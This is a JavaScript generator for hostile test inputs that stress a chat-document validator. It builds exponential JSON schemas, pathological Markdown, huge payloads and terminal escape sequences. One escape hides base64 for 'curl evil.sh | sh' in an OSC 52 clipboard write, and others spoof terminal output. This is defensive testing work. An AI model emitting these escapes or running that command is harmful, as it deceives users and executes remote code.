// The hostile inputs of issue #12, built rather than committed (same bytes on
// every run). Each is a Prompt Envelope document:
//
//   schema-800.json        a tool whose schema is {"anyOf":[{"$ref":"#"},{"$ref":"#"}]},
//                          called 800 times (distinct arguments, so that memoising
//                          identical calls does not help), results paired by name
//   schema-fail-800.json   the same with "required":["x"] added, which every call
//   schema-fail-5000.json  misses: every branch fails (800 / 5,000 calls)
//   schema-wide-800.json   a schema of 2^30 paths 31 levels deep (allOf of two $refs
//   schema-wide-5000.json  per level): only a step limit bounds it (800 / 5,000 calls)
//   pairs-40k.json         40,000 requests + 40,000 results paired by tool name (no callId):
//   pairs-80k.json         one assistant message, then one tool message per result; 80,000 + 80,000
//   segments-100k.json     one message with 100,000 text segments (~3.5 MB)
//   messages-100k.json     100,000 messages, user and assistant in turn
//   markdown-1.3mb.json    ~1.3 MB of pathological Markdown in 23 text segments of one message
//   unused-vars-50k.json   50,000 static_var never used (50,000 warnings)
//   combining-80k.json     one letter followed by 80,000 combining marks
//   text-50mb.json         one 50 MB text field
//   escape-NAME.bad.json   a terminal escape in a kind, a role, a field name and a media URL
//                          (errors: the document is rejected)
//   escape-NAME.ok.json    the same escape in a tool name, a static_var name and a value
//                          (warnings: the document is valid and exports)
//
// Usage: node bench/hostile-gen.mjs [OUT_DIR]   (default target/bench/hostile)
// Prints one line per file: name and size in bytes.
import { mkdirSync, writeFileSync, statSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
const out = resolve(process.argv[2] ?? join(here, '..', 'target', 'bench', 'hostile'));
mkdirSync(out, { recursive: true });

const J = JSON.stringify;
// JSON text with C1 and bidi controls (and U+2028/9) written raw, as a hostile file may.
const raw = (s) => J(s).replace(/\\u(00[89][0-9a-f]|202[a-e]|206[6-9]|2028|2029)/g, (_, h) => String.fromCharCode(parseInt(h, 16)));
const doc = (messages, extra = '') => `{"version":"1.0"${extra},"messages":[\n${messages.join(',\n')}\n]}\n`;
const msg = (id, role, segments, ts = 1700000000000) =>
  `{"id":${J(id)},"role":${raw(role)},"timestamp":${ts},"segments":[${segments.join(',')}]}`;
const text = (s) => `{"kind":"text","content":${J(s)}}`;
const req = (name, args) => `{"kind":"tool_call_request","toolName":${J(name)},"arguments":${args},"collapsed":false}`;
const res = (name, r) => `{"kind":"tool_call_result","toolName":${J(name)},"result":${J(r)},"success":true,"collapsed":true}`;

function write(name, body) {
  writeFileSync(join(out, name), body);
  console.log(`${name}\t${statSync(join(out, name)).size}`);
}

// ---- a seeded PRNG (as gen.mjs) ----------------------------------------------
function rng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const WORDS = 'the a of to and in is it deploy service cluster rollout request latency error cache token prompt model tool result schema migration index query release version branch commit review test build'.split(' ');
function words(r, n) {
  const w = [];
  for (let i = 0; i < n; i++) w.push(WORDS[Math.floor(r() * WORDS.length)]);
  return w.join(' ');
}

// ---- the self-referencing schema ---------------------------------------------
// As written in the issue the schema passes every value (the check gives up
// at depth 64 with nothing to report, one branch deep); with a `required`
// that the arguments miss, every branch fails and the check tries 2^64 paths.
function schemaCalls(n, schema) {
  const tools = `{"kind":"tool_overview","items":[{"name":"t","description":"d","schema":${schema}}],"collapsed":true}`;
  const calls = [];
  const results = [];
  for (let i = 0; i < n; i++) {
    calls.push(req('t', `{"i":${i}}`));
    results.push(res('t', 'ok'));
  }
  return doc([msg('s', 'system', [tools]), msg('a', 'assistant', calls), msg('r', 'tool', results)]);
}
const ISSUE_SCHEMA = '{"anyOf":[{"$ref":"#"},{"$ref":"#"}]}';
const FAILING_SCHEMA = '{"type":"object","required":["x"],"anyOf":[{"$ref":"#"},{"$ref":"#"}]}';
// Wide rather than deep: d0 = allOf [d1, d1], …, d29 = allOf [d30, d30]: 2^30
// paths, 31 levels deep (no depth limit helps; only a step limit does).
const WIDE_SCHEMA = (() => {
  const defs = {};
  for (let i = 0; i < 30; i++) defs[`d${i}`] = { allOf: [{ $ref: `#/$defs/d${i + 1}` }, { $ref: `#/$defs/d${i + 1}` }] };
  defs.d30 = {};
  return J({ type: 'object', $defs: defs, allOf: [{ $ref: '#/$defs/d0' }] });
})();
write('schema-800.json', schemaCalls(800, ISSUE_SCHEMA));
write('schema-fail-800.json', schemaCalls(800, FAILING_SCHEMA));
write('schema-fail-5000.json', schemaCalls(5000, FAILING_SCHEMA));
write('schema-wide-800.json', schemaCalls(800, WIDE_SCHEMA));
write('schema-wide-5000.json', schemaCalls(5000, WIDE_SCHEMA));

// ---- pairing by name ---------------------------------------------------------
function pairs(n) {
  const names = ['search', 'fetch', 'read', 'write'];
  const calls = [];
  const ms = [];
  for (let i = 0; i < n; i++) calls.push(req(names[i % 4], `{"q":${i}}`));
  ms.push(msg('a', 'assistant', calls));
  for (let i = 0; i < n; i++) ms.push(msg(`r${i}`, 'tool', [res(names[i % 4], `r${i}`)]));
  return doc(ms);
}
write('pairs-40k.json', pairs(40000));
write('pairs-80k.json', pairs(80000));

// ---- many segments, many messages --------------------------------------------
{
  const r = rng(1);
  const segs = [];
  for (let i = 0; i < 100000; i++) segs.push(text(`${i} ${words(r, 2)}`));
  write('segments-100k.json', doc([msg('u', 'user', segs)]));
}
{
  const r = rng(2);
  const ms = [];
  for (let i = 0; i < 100000; i++) {
    ms.push(msg(`m${i}`, i % 2 ? 'assistant' : 'user', [text(`${i}: ${words(r, 3 + (i % 7))}`)], 1700000000000 + i));
  }
  write('messages-100k.json', doc(ms));
}

// ---- pathological Markdown ---------------------------------------------------
// 23 segments of ~57 KB, each a different shape known to be costly for
// CommonMark parsers: unclosed brackets and images, nested links, emphasis
// runs, deep block quotes and lists, backtick runs, link reference
// definitions, tables, entities and inline HTML.
export function pathologicalMarkdown() {
  const size = 57000;
  const fill = (unit) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
  const shapes = [
    fill('['),
    fill('!['),
    fill('[a]('),
    fill('[[a](b)'),
    fill('*a '),
    fill('*_'),
    fill('**a*'),
    fill('_a__'),
    fill('a**b_'),
    fill('> ') + 'a',
    fill('- ') + 'a',
    fill('1. '),
    fill('`a``'),
    fill('`'),
    Array.from({ length: 1500 }, (_, i) => `[l${i}]: <u${i}> "t`).join('\n'),
    '|' + fill('a|').slice(0, 20000) + '\n|' + fill('-|').slice(0, 20000) + '\n' + fill('|x'),
    fill('&#'),
    fill('<a '),
    fill('[a]['),
    fill('~~a'),
    fill('>*'),
    fill('\\['),
    fill('[^'),
  ];
  return shapes.map(text);
}
write('markdown-1.3mb.json', doc([msg('u', 'user', pathologicalMarkdown())]));

// ---- warnings, combining marks, one huge field -------------------------------
{
  const ms = [];
  for (let m = 0; m < 500; m++) {
    const segs = [];
    for (let k = 0; k < 100; k++) segs.push(`{"kind":"static_var","name":"v${m * 100 + k}","value":"x"}`);
    ms.push(msg(`m${m}`, 'user', segs));
  }
  write('unused-vars-50k.json', doc(ms));
}
write('combining-80k.json', doc([msg('u', 'user', [text('a' + '\u0301'.repeat(80000))])]));
{
  const r = rng(3);
  const para = [];
  let n = 0;
  while (n < 50_000_000) {
    const p = words(r, 60) + '.\n\n';
    para.push(p);
    n += p.length;
  }
  write('text-50mb.json', doc([msg('u', 'user', [text(para.join('').slice(0, 50_000_000))])]));
}

// ---- terminal escapes ----------------------------------------------------------
// In JSON the C0 controls must be written as \u escapes; C1 and bidi controls
// may stand raw (they are written raw here, as a hostile file would).
export const ESCAPES = {
  title: '\u001b]0;pwned\u0007',
  erase: '\u001b[2K\rfake.json: ok\n',
  osc52: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
  conceal: '\u001b[8mhidden',
  c1csi: '\u009b2K\rfake.json: ok',
  nul: 'a\u0000b',
  bidi: 'abc\u202edcb\u2066x\u2069',
  del: 'a\u007fb',
  lsep: 'a\u2028b\u2029c',
};
for (const [name, e] of Object.entries(ESCAPES)) {
  const bad = doc([
    msg('m0', 'user', [`{"kind":${raw('x' + e)},"content":"c"}`]),
    msg('m1', 'x' + e, [text('c')]),
    msg('m2', 'user', [`{"kind":"text","content":"c",${raw(e)}:1}`]),
    msg('m3', 'user', [`{"kind":"media","mediaType":"image","url":${raw('javascript:' + e)}}`]),
  ]);
  write(`escape-${name}.bad.json`, bad);
  const ok = doc([
    msg('s', 'system', [
      `{"kind":"tool_overview","items":[{"name":${raw('t' + e)},"description":${raw('d' + e)}}],"collapsed":true}`,
      `{"kind":"static_var","name":${raw('v' + e)},"value":${raw(e)}}`,
    ]),
    msg('u', 'user', [text('c' + e)]),
  ]);
  write(`escape-${name}.ok.json`, ok);
}
